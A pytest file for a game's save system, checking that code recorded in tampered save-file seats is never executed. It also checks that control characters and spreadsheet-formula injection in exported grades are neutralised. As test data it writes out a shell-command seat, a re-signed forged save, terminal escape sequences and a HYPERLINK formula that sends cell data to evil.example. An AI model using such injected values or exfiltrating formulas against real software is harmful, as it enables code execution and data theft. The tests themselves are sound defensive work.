"""A save is data, not a program: seats recorded in a save never run code.

The attacker writes a valid save (re-signed after editing, as anyone can: the checksum is a
plain sha256) whose seats name a shell command, a Python file and a Python module, each of
which leaves a marker file if it ever runs. Every command that takes a save is run on it; each
must say what it did with those seats, and no marker may appear.
"""

from __future__ import annotations

import argparse
import asyncio
import io
import json
import shlex
import sys
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from tradegame.agents.base import (
    CodeAgentRefused,
    make_agent,
    play_match,
    refused_seat_notice,
    runs_code,
)
from tradegame.cli import main
from tradegame.engine import Game, parse
from tradegame.saves import load_game, save_game
from tradegame.saves.format import checksum, encode
from tradegame.scenario import rules_from_text

ROOT = Path(__file__).resolve().parents[2]
SMALL = ROOT / "tests" / "engine" / "small.yaml"
BOT = ROOT / "tests" / "agents" / "bots" / "misbehaving.py"
ROUND_ONE = ["B pass", "A tariff a-on-b 0.3", "A done", "B say reassure A", "B done", "C done"]

EVIL_PY = """\
import pathlib
pathlib.Path({marker!r}).write_text("imported")


class Evil:
    def __init__(self, rng=None):
        pass

    def act(self, turn):
        raise RuntimeError("never asked")
"""


@dataclass
class Attack:
    save: Path
    seats: dict[str, str]
    markers: list[Path]
    folder: Path

    def ran(self) -> list[str]:
        """The markers that exist: what attacker code ran."""
        return [m.name for m in self.markers if m.exists()]


def bot_spec(*args: str) -> str:
    return "cmd:" + shlex.join([sys.executable, str(BOT), *args])


@pytest.fixture
def attack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Attack:
    monkeypatch.setenv("TRADEGAME_SAVE_DIR", str(tmp_path / "saves"))
    monkeypatch.chdir(tmp_path)
    markers = [tmp_path / "cmd-ran", tmp_path / "file-imported", tmp_path / "module-imported"]
    evil = tmp_path / "path" / "evil.py"
    evil.parent.mkdir()
    evil.write_text(EVIL_PY.format(marker=str(markers[1])), encoding="utf-8")
    module = f"tg_evil_{uuid.uuid4().hex[:12]}"  # fresh: never already in sys.modules
    (tmp_path / "mods").mkdir()
    (tmp_path / "mods" / f"{module}.py").write_text(
        EVIL_PY.format(marker=str(markers[2])), encoding="utf-8"
    )
    monkeypatch.syspath_prepend(str(tmp_path / "mods"))
    seats = {
        "A": "cmd:touch " + shlex.quote(str(markers[0])),
        "B": f"{evil}:Evil",
        "C": f"{module}:Evil",
    }

    # A real save of a game in round 2, then its seats edited and the checksum redone.
    text = SMALL.read_text(encoding="utf-8")
    game = Game.new(rules_from_text(text, str(SMALL)), 5)
    for move in ROUND_ONE:
        game.apply(parse(move))
    folder = tmp_path / "saves"
    folder.mkdir()
    path = folder / "homework.json"
    save_game(
        path,
        game,
        {"A": "human", "B": "random", "C": "passive"},
        scenario_text=text,
        scenario_name="small.yaml",
    )
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["seats"] = seats
    doc["checksum"] = checksum(doc)
    path.write_bytes(encode(doc))
    assert load_game(path).seats == seats  # the save is valid: only the seats say otherwise
    return Attack(path, seats, markers, folder)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def assert_refused_notice(text: str, attack: Attack, command: str) -> None:
    """Each seat's notice names the seat, the recorded spec and the flag that runs it."""
    flat = " ".join(text.split())
    for player, spec in attack.seats.items():
        assert f"{player}'s seat is recorded as {spec!r}, which runs code" in flat, flat
        assert f"so {player} plays as passive" in flat
        assert f"{command} --seat {shlex.quote(f'{player}={spec}')}" in flat


# ---------------------------------------------------------------------- the attack is real


def test_the_seats_would_run_code_if_started(attack: Attack) -> None:
    # The control: built as the keyboard user's own seats, each leaves its marker, so a
    # missing marker elsewhere means the code was not run (not that the trap was broken).
    for spec in attack.seats.values():
        assert runs_code(spec)
    rules = load_game(attack.save).rules
    play_match(rules, 1, attack.seats, incidents=[], time_limit=2, allow_code=True)
    assert attack.ran() == ["cmd-ran", "file-imported", "module-imported"]


def test_make_agent_refuses_code_unless_told(attack: Attack) -> None:
    import random

    for spec in attack.seats.values():
        with pytest.raises(CodeAgentRefused, match="runs code"):
            make_agent(spec, random.Random(0))
    assert not runs_code("random") and not runs_code("human") and not runs_code("passive")
    assert attack.ran() == []


# ---------------------------------------------------------------------- the commands


def test_resume_starts_no_recorded_code_and_says_how_to_run_it(
    attack: Attack, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "resume", str(attack.save), "--no-autosave", "--json")
    assert code == 0, err
    assert_refused_notice(err, attack, f"tradegame resume {attack.save}")
    result = json.loads(out)
    assert result["seats"] == {"A": "passive", "B": "passive", "C": "passive"}
    assert attack.ran() == []


def test_resume_runs_a_bot_the_user_names_again(
    attack: Attack, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    log = tmp_path / "bot-log.jsonl"
    spec = bot_spec("none", "0", "--log", str(log))
    code, out, err = run(
        capsys,
        "resume",
        str(attack.save),
        "--no-autosave",
        "--json",
        "--seat",
        f"A={spec}",
        "--time-limit",
        "20",
    )
    assert code == 0, err
    messages = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    assert messages[0]["type"] == "start" and messages[-1]["type"] == "end"
    assert any(m["type"] == "turn" and m["player"] == "A" for m in messages)
    result = json.loads(out)
    assert result["seats"]["A"] == spec and result["incidents"] == []
    assert "A's seat is recorded" not in err  # A was named again: no notice for it
    assert "B's seat is recorded" in err and "C's seat is recorded" in err
    assert attack.ran() == []


def test_a_seat_with_control_characters_is_refused_or_shown_escaped(
    attack: Attack, capsys: pytest.CaptureFixture[str]
) -> None:
    seat = "cmd:\x9b2J\u202eevil"  # CSI and a bidi override: never obeyed by the terminal
    notice = refused_seat_notice("A", seat, "tradegame resume g.json")
    assert "\x9b" not in notice and "\u202e" not in notice
    assert "\\x9b2J\\u202eevil" in notice
    # The save loader refuses such a seat outright: a located message, and nothing runs.
    doc = json.loads(attack.save.read_text(encoding="utf-8"))
    doc["seats"]["A"] = seat
    doc["checksum"] = checksum(doc)
    attack.save.write_bytes(encode(doc))
    code, _, err = run(capsys, "resume", str(attack.save), "--no-autosave")
    assert code == 2 and f"{attack.save}: seats.A: " in err and "Traceback" not in err
    assert attack.ran() == []


@pytest.mark.parametrize("command", ["replay", "report", "grades", "rollback"])
def test_commands_that_read_a_save_show_its_seats_and_run_nothing(
    attack: Attack, capsys: pytest.CaptureFixture[str], tmp_path: Path, command: str
) -> None:
    argv = [command, str(attack.save)]
    if command == "rollback":
        argv += ["--round", "1", "--out", str(tmp_path / "rolled.json")]
    if command == "grades":
        argv += ["--include-unfinished"]  # the game is unfinished: scored only if asked
    code, out, err = run(capsys, *argv)
    assert code == 0, err
    assert "Traceback" not in out + err
    if command == "rollback":
        assert out.startswith(f"{tmp_path / 'rolled.json'}: ")
        # The new save keeps the seats as a record; resuming it still starts none of them.
        assert load_game(tmp_path / "rolled.json").seats == attack.seats
        code, _, err = run(capsys, "resume", str(tmp_path / "rolled.json"), "--no-autosave")
        assert code == 0, err
        assert_refused_notice(err, attack, f"tradegame resume {tmp_path / 'rolled.json'}")
    else:
        for spec in attack.seats.values():  # shown as a record of who played
            assert spec in out
    assert attack.ran() == []


# ---------------------------------------------------------------------- the interface


def screen_text(app: Any) -> str:
    width, height = app.size
    console = Console(
        width=width,
        height=height,
        file=io.StringIO(),
        force_terminal=True,
        record=True,
        legacy_windows=False,
    )
    console.print(
        app.screen._compositor.render_update(
            full=True, screen_stack=app._background_screens, simplify=True
        )
    )
    return console.export_text(styles=False)


async def wait_until(pilot: Any, predicate: Callable[[], bool], what: str) -> None:
    deadline = time.monotonic() + 20
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}:\n{screen_text(pilot.app)}")
        await pilot.pause()
        await asyncio.sleep(0.01)


async def check_loaded_game(app: Any, pilot: Any, attack: Attack) -> None:
    """The game is on, with the recorded seats passive, and the player was told why."""
    from tradegame.ui.screens.game import GameScreen

    await wait_until(pilot, lambda: isinstance(app.screen, GameScreen), "the game")
    match = app.match
    assert match.seats == {"A": "passive", "B": "passive", "C": "passive"}
    # A warning on screen; its full text (too long for one line of the toast) in the log tab.
    await wait_until(pilot, lambda: "Seat not started" in screen_text(app), "the notice")
    assert_refused_notice("\n".join(match.incidents), attack, f"tradegame play {attack.save}")
    assert attack.ran() == []


async def test_the_load_dialog_starts_no_recorded_code(attack: Attack) -> None:
    from tradegame.ui.app import Options, TradeGameApp

    # Slow AI moves: the game (all AI seats now) stays on screen while the notice is read.
    app = TradeGameApp(Options(save_dir=attack.folder, ai_delay=0.0, spectate_delay=30.0))
    app.animation_level = "none"
    async with app.run_test(size=(110, 36), notifications=True) as pilot:
        await wait_until(pilot, lambda: "Resume a save" in screen_text(app), "the setup")
        await pilot.press("o")
        await wait_until(pilot, lambda: "homework.json" in screen_text(app), "the save list")
        await pilot.press("enter")
        await check_loaded_game(app, pilot, attack)
    assert attack.ran() == []


async def test_play_save_starts_no_recorded_code(attack: Attack) -> None:
    from tradegame.commands.play import build_options
    from tradegame.ui.app import TradeGameApp

    args = argparse.Namespace(scenario=str(attack.save), seat=[], seed=None, instructor=False)
    options: Any = build_options(args)
    assert attack.ran() == []  # building the match imported nothing
    options.save_dir, options.ai_delay, options.spectate_delay = attack.folder, 0.0, 30.0
    app = TradeGameApp(options)
    app.animation_level = "none"
    async with app.run_test(size=(110, 36), notifications=True) as pilot:
        await check_loaded_game(app, pilot, attack)
    assert attack.ran() == []


def test_play_save_with_seat_runs_the_bot_named_again(attack: Attack) -> None:
    from tradegame.agents.external import ExternalAgent
    from tradegame.commands.play import build_options

    spec = bot_spec("none", "0")
    args = argparse.Namespace(
        scenario=str(attack.save), seat=[f"A={spec}"], seed=None, instructor=False
    )
    match: Any = build_options(args).match  # type: ignore[attr-defined]
    try:
        assert match.seats == {"A": spec, "B": "passive", "C": "passive"}
        assert isinstance(match.agents["A"], ExternalAgent)
        assert set(match.seat_notices) == {"B", "C"}
    finally:
        match.close()
    assert attack.ran() == []


async def test_the_new_game_screen_in_a_browser_refuses_code_seats(attack: Attack) -> None:
    from tradegame.ui.app import Options, TradeGameApp
    from tradegame.ui.screens.dialogs import MessageDialog

    app = TradeGameApp(
        Options(
            scenario=str(SMALL),
            seats=dict(attack.seats),
            seed=3,
            save_dir=attack.folder,
            ai_delay=0.0,
            spectate_delay=0.0,
            web=True,
        )
    )
    app.animation_level = "none"
    async with app.run_test(size=(110, 36)) as pilot:
        await wait_until(pilot, lambda: len(app.screen.query(".seat")) == 3, "the seats")
        await pilot.press("s")
        await wait_until(pilot, lambda: isinstance(app.screen, MessageDialog), "the refusal")
        message = " ".join(app.screen.message.split())
        assert "run code" in message and "--seat" in message
        for player, spec in attack.seats.items():
            assert f"{player}: {spec!r}" in message
        assert app.match is None
    assert attack.ran() == []


async def test_the_new_game_screen_in_a_terminal_still_runs_a_bot(attack: Attack) -> None:
    from tradegame.agents.external import ExternalAgent
    from tradegame.ui.app import Options, TradeGameApp
    from tradegame.ui.screens.game import GameScreen

    spec = bot_spec("none", "0")
    app = TradeGameApp(
        Options(
            scenario=str(SMALL),
            seats={"A": spec, "B": "human", "C": "passive"},
            seed=3,
            save_dir=attack.folder,
            ai_delay=0.0,
            spectate_delay=0.0,
        )
    )
    app.animation_level = "none"
    async with app.run_test(size=(110, 36)) as pilot:
        await wait_until(pilot, lambda: len(app.screen.query(".seat")) == 3, "the seats")
        await pilot.press("s")
        await wait_until(pilot, lambda: isinstance(app.screen, GameScreen), "the game")
        assert isinstance(app.match.agents["A"], ExternalAgent)


def test_grades_cells_from_a_save_are_never_spreadsheet_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A seat is free text in a save; opened in a spreadsheet, '=...' would be a formula."""
    text = SMALL.read_text(encoding="utf-8")
    game = Game.new(rules_from_text(text, str(SMALL)), 5)
    path = tmp_path / "team.json"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    save_game(
        path,
        game,
        {"A": formula, "B": "@SUM(1+1)", "C": "passive"},
        scenario_text=text,
        scenario_name="small.yaml",
    )
    code, out, _ = run(capsys, "grades", str(path), "--include-unfinished")
    assert code == 0
    column = out.splitlines()[0].split(",").index("seat")
    seats = [line.split(",")[column] for line in out.splitlines()[1:]]
    assert seats[:2] == ['"\'=HYPERLINK(""http://evil.example/?""&A1', "'@SUM(1+1)"]
    assert seats[2] == "passive"
